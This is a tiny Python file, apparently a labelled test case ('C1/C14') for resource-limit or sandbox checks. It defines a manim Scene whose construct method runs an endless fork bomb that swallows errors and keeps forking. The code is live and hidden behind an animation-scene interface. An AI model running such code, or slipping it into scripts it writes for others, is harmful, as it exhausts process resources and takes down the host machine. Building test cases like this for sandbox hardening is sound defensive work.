"""C1/C14: a fork bomb whose processes never give up (they swallow every error and keep trying)."""

import os
import time

from manim import Scene


class ExhaustForkBombPersistent(Scene):
    def construct(self):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
